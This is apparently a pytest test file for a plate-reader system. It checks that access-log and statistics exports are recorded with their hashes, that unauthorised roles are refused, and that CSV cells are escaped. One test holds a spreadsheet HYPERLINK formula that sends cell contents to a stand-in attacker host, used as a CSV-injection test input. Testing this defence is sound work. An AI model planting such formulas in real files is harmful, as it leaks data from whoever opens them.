"""Files of the oversight pages on both databases (R20, R22, R23, R48): the access log's rows as
CSV or signed PDF and the usage statistics' figures as CSV are each made by the governed call
that records the export, naming the records or the figure, the file and its SHA-256; a person
who may not see them gets no file, and the attempt is recorded."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from alpr.data.models import AccessRecord
from alpr.governance.access_log import Event, Outcome
from alpr.governance.errors import Refusal
from alpr.governance.gateway import JustificationInput
from alpr.governance.investigations.searches import plate_history
from alpr.governance.oversight.report import signed_log_report, verify_report
from alpr.governance.oversight.review import LogFilter, export_log_csv, review_log
from alpr.governance.oversight.usage import Figure, statistics_csv
from alpr.governance.runtime import Runtime
from tests.conftest import Clock, TestUser
from tests.integration.builders import World
from tests.integration.test_access_review import _search

DAY = datetime(2026, 11, 18, tzinfo=UTC)
WINDOW = LogFilter(DAY - timedelta(days=2), DAY + timedelta(days=3))


ROLES = {
    "detective": ("rivera", "investigator"),
    "sergeant": ("brooks", "sergeant"),
    "command": ("park", "command"),
    "patrol": ("chen", "patrol"),
}


@pytest.fixture
def people(make_user: Callable[..., TestUser]) -> dict[str, TestUser]:
    return {key: make_user(*account) for key, account in ROLES.items()}


def _searched(rt: Runtime, who: TestUser, plate: str, at: datetime) -> int:
    with rt.transaction() as session:
        return _search(session, who, at, [plate], kind="plate")


def _exports(rt: Runtime, username: str) -> list[AccessRecord]:
    with rt.transaction() as session:
        records = list(
            session.execute(
                select(AccessRecord)
                .where(AccessRecord.username == username, AccessRecord.event == Event.EXPORT)
                .order_by(AccessRecord.id)
            ).scalars()
        )
        session.expunge_all()
        return records


def test_a_csv_of_the_rows_shown_is_recorded_as_an_export_naming_them(
    rt: Runtime, people: dict[str, TestUser]
) -> None:
    """R20, R23: the CSV holds exactly the records shown, in their order, and the export record
    names them, who exported them, the filter, the file and its SHA-256, and the plates the
    rows name. Fails if the CSV is handed back without its record."""
    shown = [
        _searched(rt, people["detective"], plate, DAY + timedelta(hours=n))
        for n, plate in enumerate(("7ABC123", "8XYZ999"))
    ]
    _searched(rt, people["detective"], "5HIDDEN", DAY + timedelta(hours=3))
    sergeant = people["sergeant"].principal
    assert _exports(rt, "brooks") == []

    exported = export_log_csv(rt, principal=sergeant, filters=WINDOW, record_ids=shown[::-1])

    rows = list(csv.DictReader(io.StringIO(exported.data.decode())))
    assert [int(r["Record"]) for r in rows] == shown[::-1]
    assert {r["User"] for r in rows} == {"rivera"} and "5HIDDEN" not in exported.data.decode()
    [record] = _exports(rt, "brooks")
    assert record.outcome == Outcome.SUCCESS
    assert record.user_id == sergeant.user_id
    query = record.query or {}
    assert query["kind"] == "access_log_export" and query["format"] == "csv"
    assert query["record_ids"] == shown[::-1]
    assert query["file"] == exported.file_name and exported.file_name.endswith(".csv")
    assert query["sha256"] == hashlib.sha256(exported.data).hexdigest()
    assert query["filter"] == WINDOW.describe(rt.settings.tz)
    assert record.plates == ["7ABC123", "8XYZ999"]
    assert record.result_count == 2
    # The sergeant's own review lists the export among the exports of data.
    listed = review_log(
        rt,
        principal=sergeant,
        filters=LogFilter(WINDOW.start, rt.now() + timedelta(minutes=1), exported_only=True),
    )
    assert [(r.id, r.what) for r in listed.rows] == [(record.id, "Export of access log records")]


def test_a_person_who_may_not_review_the_log_gets_no_csv_and_is_recorded(
    rt: Runtime, people: dict[str, TestUser]
) -> None:
    """R20, R48: a detective and a commander (neither reviews the log) are refused the CSV and
    the signed PDF; each attempt is in the log as a refused export."""
    shown = [_searched(rt, people["detective"], "7ABC123", DAY)]
    for who in ("detective", "command"):
        person = people[who]
        with pytest.raises(Refusal, match="does not include"):
            export_log_csv(rt, principal=person.principal, filters=WINDOW, record_ids=shown)
        with pytest.raises(Refusal, match="does not include"):
            signed_log_report(rt, principal=person.principal, filters=WINDOW, record_ids=shown)
        refused = _exports(rt, person.username)
        assert [(r.outcome, "access log" in (r.detail or "")) for r in refused] == [
            (Outcome.REFUSED, True),
            (Outcome.REFUSED, True),
        ]


def test_the_signed_pdf_is_recorded_as_an_export_of_its_records(
    rt: Runtime, people: dict[str, TestUser]
) -> None:
    """R20, R22: the signed PDF's export record names its records and the SHA-256 of exactly
    the bytes the signature covers."""
    shown = [_searched(rt, people["detective"], "7ABC123", DAY)]
    report = signed_log_report(
        rt, principal=people["sergeant"].principal, filters=WINDOW, record_ids=shown
    )
    assert verify_report(report.pdf, report.signature, report.public_key_pem)
    [record] = _exports(rt, "brooks")
    query = record.query or {}
    assert (query["format"], query["record_ids"]) == ("pdf", shown)
    assert query["file"] == report.file_name and report.file_name.endswith(".pdf")
    assert query["sha256"] == hashlib.sha256(report.pdf).hexdigest()
    assert record.plates == ["7ABC123"]


def test_a_figure_of_the_statistics_is_recorded_as_an_export(
    rt: Runtime, clock: Clock, people: dict[str, TestUser]
) -> None:
    """R20, R24: the CSV of the reads and hits per camera (it names the cameras' places) is
    worked out and recorded, the figure, the period, the file and its SHA-256, before it is
    handed back; a patrol officer, who does not see the statistics, gets none, recorded."""
    world = World(rt)
    world.camera("DC-003", 37.7, -122.4, place="Mission St & Crocker Ave")
    world.read("7ABC123", "DC-003", clock.now - timedelta(hours=1), 37.7, -122.4)
    command = people["command"].principal

    exported = statistics_csv(
        rt, principal=command, days=7, figure=Figure.READS_AND_HITS_PER_CAMERA
    )

    assert exported.data.decode().splitlines() == [
        "Camera,Reads,Hits",
        "Mission St & Crocker Ave (DC-003),1,0",
    ]
    [record] = _exports(rt, "park")
    query = record.query or {}
    assert record.outcome == Outcome.SUCCESS and record.user_id == command.user_id
    assert query["kind"] == "statistics_export"
    assert (query["figure"], query["days"], query["format"]) == (
        "reads-and-hits-per-camera",
        7,
        "csv",
    )
    assert query["file"] == exported.file_name
    assert query["sha256"] == hashlib.sha256(exported.data).hexdigest()
    assert record.result_count == 1

    with pytest.raises(Refusal, match="does not include"):
        statistics_csv(
            rt, principal=people["patrol"].principal, days=7, figure=Figure.CAMERA_UPTIME
        )
    [refused] = _exports(rt, "chen")
    assert refused.outcome == Outcome.REFUSED


FORMULA = (
    '=HYPERLINK("https://evil.example/?"&A3,"Open") armed robbery at 5th St and Main on '
    "Dec 1 2026, blue sedan"
)


def test_a_description_typed_as_a_formula_stays_text_in_the_csv(
    rt: Runtime, clock: Clock, people: dict[str, TestUser]
) -> None:
    """R22, R23, R50: a searcher's description is theirs to type, and the gateway accepts one
    that starts with ``=``; in the sergeant's CSV of the log it is text (behind an apostrophe),
    not a formula the spreadsheet runs on opening the file, and the export record's SHA-256 is
    that of the file as handed back."""
    clock.now = DAY + timedelta(hours=2)
    searched = plate_history(
        rt,
        principal=people["detective"].principal,
        justification=JustificationInput(purpose="stolen_vehicle", description=FORMULA),
        plate="7ABC123",
    )
    record_id = searched.access_record_id
    exported = export_log_csv(
        rt, principal=people["sergeant"].principal, filters=WINDOW, record_ids=[record_id]
    )
    [row] = list(csv.DictReader(io.StringIO(exported.data.decode())))
    assert row["Case or reason"] == "'" + FORMULA
    cells = [cell for line in csv.reader(io.StringIO(exported.data.decode())) for cell in line]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    [record] = _exports(rt, "brooks")
    assert (record.query or {})["sha256"] == hashlib.sha256(exported.data).hexdigest()
